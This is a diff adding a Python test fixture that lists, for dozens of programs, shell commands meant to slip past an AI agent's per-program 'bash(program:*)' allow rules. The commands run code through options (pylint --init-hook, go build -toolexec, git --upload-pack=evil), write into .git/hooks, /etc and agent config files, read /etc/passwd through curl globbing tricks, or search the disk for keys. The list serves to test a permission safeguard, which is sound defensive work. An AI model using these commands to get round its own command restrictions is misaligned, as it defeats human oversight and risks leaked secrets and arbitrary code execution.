@@ -1,0 +1,198 @@
+"""Commands that run code or write under a rule for their program: what was tried, and what looks like it."""
+
+from __future__ import annotations
+
+_BY_PROGRAM = {
+    # An operand that is written to.
+    "uniq": ("uniq - f", "uniq -- a b", "uniq -c - f", "uniq -f 1 a b", "uniq --skip-fields 1 a b", "uniq -cf1 a b"),
+    "xxd": ("xxd -p - f", "xxd - f", "xxd -ps a b", "xxd -r a", "xxd -c 8 a b", "xxd -s 4 a b"),
+    "shuf": ("shuf a b", "shuf -o f a", "shuf --out=f a"),
+    "tee": ("tee /etc/x", "tee .git/hooks/x", "tee ../x", "tee -a .steersman/config.toml", "tee .mcp.json"),
+    "cp": ("cp a .git/hooks/x", "cp a /etc/x", "cp -t /etc a", "cp a b/.git/config", "cp --target-directory=.git a"),
+    "git symbolic-ref --short": ("git symbolic-ref --short HEAD refs/heads/x",),
+    "hostname": ("hostname evil", "hostname -F f"),
+    "date": ("date 010203042030", "date -s tomorrow", "date --s=tomorrow"),
+    # Options that run code.
+    "pylint": (
+        "pylint --init-hook='import evil' src", "pylint --init-h='import evil' src", "pylint --load-plugins=evil src",
+        "pylint --rcfile=evil src", "pylint --output=f src", "pylint -f evil.Reporter src",
+        "pylint --output-format=evil.Reporter src", "pylint --generate-rcfile", "pylint @evil",
+    ),
+    "basedpyright": (
+        "basedpyright --pythonpath ./evil", "basedpyright --pythonpath=./evil", "basedpyright -p /tmp/evil",
+        "basedpyright --writebaseline", "basedpyright --createstub x", "basedpyright -v x",
+    ),
+    "flake8": (
+        "flake8 --append-config evil.cfg", "flake8 --append-c=evil.cfg", "flake8 --config=evil.cfg",
+        "flake8 --output-file=f", "flake8 --tee",
+    ),
+    "prettier": (
+        "prettier --plugin-search-dir=evil a.js", "prettier --plugin=./evil.js a.js", "prettier --write a.js",
+        "prettier -w a.js", "prettier -cw a.js", "prettier --config evil.js a.js", "prettier --parser=./evil a.js",
+    ),
+    "tsc": (
+        "tsc @evil", "tsc --outDir /x", "tsc --OutFile x", "tsc --generateTrace d", "tsc -p /tmp/evil",
+        "tsc --build",
+    ),
+    "ruff check": (
+        "ruff check --fix-only", "ruff check --fix-o", "ruff check --add-noqa", "ruff check --fix", "ruff check -o f",
+        "ruff check --output-file=f", "ruff check --config evil.toml", "ruff check --unsafe-fixes",
+    ),
+    "mypy": (
+        "mypy --timing-stats f src", "mypy --timing-stats=f src", "mypy --line-checking-stats f src", "mypy @evil",
+        "mypy --python-executable ./evil src", "mypy --config-file evil src", "mypy --cache-dir=/x src",
+        "mypy --html-report d src", "mypy -c 'x = 1'", "mypy --install-types",
+    ),
+    "curl": (
+        "curl 'f{i}le:///etc/passwd'", "curl 'fil[e-e]:///etc/passwd'", "curl '{file,x}:///etc/passwd'",
+        "curl https://x.example 'FI{L}E:///etc/passwd'", "curl file:///etc/passwd", "curl gopher://x.example/1",
+        "curl -o f https://x.example", "curl -o/dev/nullx https://x.example", "curl -so f https://x.example",
+        "curl -w '%output{f}x' https://x.example", "curl -w @f https://x.example", "curl -X DELETE https://x.example",
+        "curl https://user@x.example", "curl -K f", "curl --outp f https://x.example", "curl -d x https://x.example",
+    ),
+    "eslint": (
+        "eslint --inspect-config", "eslint --fix .", "eslint -c evil.js .", "eslint --cache .", "eslint -f evil .",
+        "eslint --format=../evil .", "eslint --plugin evil .", "eslint --rulesdir d .", "eslint --flag x .",
+    ),
+    "cargo clippy": ("cargo clippy --fix", "cargo clippy -- -C linker=evil", "cargo clippy --config a=b"),
+    "cargo test": (
+        "cargo test -- --logfile f", "cargo test -- --logfile=f", "cargo test --config a=b", "cargo test -Zx",
+        "cargo test --target ../x.json", "cargo test --target=x.json", "cargo test -- -Z unstable-options",
+        "cargo test --timings",
+    ),
+    "cargo build": (
+        "cargo build --config build.rustc-wrapper=evil", "cargo build --target-dir=/x", "cargo build --artifact-dir=x",
+        "cargo build --manifest-path=/tmp/evil/Cargo.toml", "cargo build -- x",
+    ),
+    "cargo fmt": ("cargo fmt -- --config-path /x", "cargo fmt --manifest-path /x", "cargo fmt -- --emit files"),
+    "go build": (
+        "go build -debug-actiongraph=f", "go build --debug-actiongraph=f", "go build -debug-trace=f", "go build -o f",
+        "go build -toolexec=evil", "go build -ldflags=-extld=evil", "go build -overlay=f", "go build -C /tmp/evil",
+        "go build -modfile=f", "go build -pgo=f", "go build -- x",
+    ),
+    "go test": (
+        "go test -exec=evil", "go test -exec evil", "go test --exec=evil", "go test -coverprofile=f", "go test -c",
+        "go test -test.cpuprofile=f", "go test -args -x", "go test -vettool=evil", "go test -outputdir=/x",
+    ),
+    "go vet": ("go vet -vettool=./evil", "go vet --vettool ./evil"),
+    "rspec": ("rspec -r ./evil.rb", "rspec -I evil", "rspec --require ./evil", "rspec -o f", "rspec --options f"),
+    "phpunit": (
+        "phpunit --bootstrap evil.php", "phpunit --boot=evil.php", "phpunit -c evil.xml", "phpunit --log-junit f",
+        "phpunit -d auto_prepend_file=evil.php", "phpunit --prepend evil.php",
+    ),
+    "pandoc": (
+        "pandoc --filter ./evil a.md", "pandoc --lua-filter=evil.lua a.md", "pandoc -F evil a.md", "pandoc -o f a.md",
+        "pandoc -t evil.lua a.md", "pandoc --to=evil.lua a.md", "pandoc -d defaults a.md", "pandoc -sF evil a.md",
+    ),
+    "exiftool": (
+        "exiftool -if 'system(1)' a.jpg", "exiftool -p f a.jpg", "exiftool -config f a.jpg", "exiftool -Artist=x a.jpg",
+        "exiftool -@ f", "exiftool -w txt a.jpg",
+    ),
+    "dotnet build": (
+        "dotnet build --property:PreBuildEvent=evil", "dotnet build -p:PreBuildEvent=evil",
+        "dotnet build /p:PreBuildEvent=evil", "dotnet build -o /x", "dotnet build @evil.rsp",
+    ),
+    "tcpdump": ("tcpdump -z evil -w f", "tcpdump -w f", "tcpdump -nw f", "tcpdump -F f"),
+    "rename": ("rename 's/a/`evil`/' f",),
+    "mlr": ("mlr put 'system(1)' f",),
+    "fzf": ("fzf --bind 'start:execute(evil)'", "fzf --preview evil"),
+    "sort": ("sort -o f x", "sort -ro f x", "sort --compress-prog=evil x", "sort --comp=evil x", "sort x -o f"),
+    "rg": ("rg --pre evil x", "rg --pre=evil x", "rg -nz x", "rg --hostname-bin=evil x", "rg KEY /", "rg KEY .."),
+    "grep": ("grep -r KEY /", "grep -rn KEY //", "grep -r KEY /.", "grep -r KEY /usr/..", "grep -r KEY ../.."),
+    "diff": ("diff -r / x", "diff -l a b", "diff --pag a b"),
+    "fd": ("fd -x evil", "fd -Hx evil", "fd --exec-b evil", "fd -X evil", "fd --base-directory / x"),
+    "find": (
+        "find . -delete", "find . -exec evil '{}' +", "find . -fprintf f x", "find . -name x -delete", "find . -D exec",
+        "find . -files0-from f", "find . -name -delete -delete",
+    ),
+    "tree": ("tree -o f", "tree -ao f", "tree -Lo 2 f", "tree -Po x f", "tree -R", "tree --output=f"),
+    "ps": ("ps auxe", "ps -auxe", "ps -e -u x", "ps -aux e", "ps axo pid,environ", "ps -o environ", "ps -eu x"),
+    "sed": (
+        "sed -i s/a/b/ f", "sed -ni p f", "sed --in-pl p f", "sed -n -f evil f", "sed 's/a/b/w f' x", "sed -n 1p *",
+    ),
+    "file": ("file -C -m f", "file -z f", "file -bz f", "file --compile"),
+    "yq": ("yq -i .a f", "yq -ri .a f", "yq -s .a f"),
+    # Git
+    "git log": (
+        "git log --format=%G?", "git log --format=%GK", "git log --pretty=format:%h%G?", "git log --pretty=%+G?",
+        "git log --show-signature", "git log --show-sig", "git log --output=f", "git log --outp=f",
+        "git log --ext-diff",
+        "git log --textconv", "git log --alternate-refs",
+    ),
+    "git show": ("git show --format=%G?", "git show --output f", "git show --pretty='tformat:%G?'"),
+    "git shortlog": ("git shortlog --group=format:%G?", "git shortlog --format=%G?"),
+    "git tag": (
+        "git tag -v v1", "git tag -s v1", "git tag --verify v1", "git tag -u k v1",
+        "git tag --format='%(signature)'",
+    ),
+    "git branch": (
+        "git branch --format='%(signature:grade)'", "git branch --sort=signature", "git branch --edit-desc",
+        "git branch -D x",
+    ),
+    "git for-each-ref": ("git for-each-ref --format='%(signature)'", "git for-each-ref --sort=-signature"),
+    "git commit": (
+        "git commit -S -m x", "git commit -aS -m x", "git commit --gpg-sign -m x", "git commit --gpg-s=k -m x",
+        "git commit -e", "git commit -n -m x", "git commit --no-verify -m x", "git commit --trailer=a:b -m x",
+        "git commit -Sk",
+    ),
+    "git merge": (
+        "git merge -s evil x", "git merge -S x", "git merge --verify-signatures x", "git merge --strategy=evil x",
+    ),
+    "git fetch": (
+        "git fetch --upload-pack=evil origin", "git fetch ./evil", "git fetch evil", "git fetch ext::evil",
+        "git fetch https://evil.example/x", "git fetch origin +a:b", "git fetch -u origin",
+    ),
+    "git pull": ("git pull ./evil main", "git pull -s evil", "git pull --gpg-sign", "git pull evil"),
+    "git push": (
+        "git push ./evil main", "git push --receive-pack=evil origin", "git push --exec=evil origin", "git push -f",
+        "git push origin +main", "git push origin :main", "git push --force-with-lease", "git push --signed",
+    ),
+    "git ls-remote": ("git ls-remote --upload-pack=evil origin", "git ls-remote ext::evil", "git ls-remote ./evil"),
+    "git reflog": ("git reflog expire --all", "git reflog delete x"),
+    "git remote": ("git remote add x ext::evil", "git remote set-url origin x"),
+    "git stash": ("git stash drop", "git stash clear", "git stash branch x"),
+    "git grep": ("git grep -Oevil x", "git grep -nO x", "git grep --open-files=evil x", "git grep --textconv x"),
+    "git cat-file": ("git cat-file --textconv HEAD:a", "git cat-file --filters HEAD:a"),
+    "git diff": ("git diff --output=f", "git diff --ext-diff", "git diff --no-index / x"),
+    # Test runners and package managers
+    "pytest": (
+        "pytest -p evil", "pytest -xp evil", "pytest -c evil", "pytest @evil", "pytest --rootd=/x",
+        "pytest -W error::evil.E",
+        "pytest --cov-report=html:x", "pytest --cov-report=xml:conftest.py", "pytest --debug", "pytest --pdb",
+        "pytest --junit-xml=f", "pytest --pyargs evil", "pytest ../evil", "pytest --confcutdir=/x",
+    ),
+    "python -m pytest": ("python -m pytest -p evil", "python -m pytest @evil", "python -m pytest /tmp/evil.py"),
+    "npm test": ("npm test --node-options=--require=./evil", "npm test -- --require ./evil", "npm test --prefix=/x"),
+    "npm run build": (
+        "npm run build --script-shell=evil", "npm run build -- --config evil.js", "npm run build -w ../x",
+    ),
+    "npm audit": ("npm audit fix", "npm audit fix --force"),
+    "make -n": (
+        "make -n SHELL=evil", "make -n -f evil.mk", "make -n --eval='$(shell evil)'", "make -n -C /tmp/evil",
+        "make -n -nf x",
+        "make -n -e", "make -n --file=x", "make -n /tmp/x",
+    ),
+    "docker ps": ("docker ps -H tcp://evil", "docker ps --host=tcp://evil", "docker ps --config d"),
+    "kubectl get": (
+        "kubectl get pods -s https://evil.example", "kubectl get pods -As https://evil.example", "kubectl get -f x",
+        "kubectl get pods --kubeconfig=f", "kubectl get pods --kubec=f", "kubectl get --raw=/x",
+        "kubectl get --token=x pods",
+    ),
+    "gh pr view": ("gh pr view -w", "gh pr view --web", "gh pr view -cw", "gh pr view -R evil.example/a/b"),
+    "gh pr create": ("gh pr create -F /etc/passwd", "gh pr create --body-file f", "gh pr create -w", "gh pr create -e"),
+    "aws s3 ls": ("aws s3 ls --endpoint-url http://evil.example", "aws s3 ls --query file:///etc/passwd"),
+    "terraform fmt": ("terraform fmt /etc", "terraform fmt -chdir=/x"),
+    "ffprobe": ("ffprobe -f lavfi -i x", "ffprobe -o f a.mp4", "ffprobe -report a.mp4"),
+    "awk": ("awk 'BEGIN{system(1)}'",),
+    "make": ("make test",),
+    "env": ("env ls",),
+    "xargs": ("xargs rm",),
+    "ssh": ("ssh host ls",),
+}  # fmt: skip
+
+ATTACKS = [(f"bash({program}:*)", command) for program, commands in _BY_PROGRAM.items() for command in commands] + [
+    ("bash(echo:*),bash(uniq:*)", "echo evil | uniq - f"),
+    ("bash(echo:*),bash(xxd:*)", "echo evil | xxd -p - f"),
+    ("bash(ls:*),bash(tee:*)", "ls | tee .git/config"),
+]
+"""Rules, and a command that must not get through under them."""
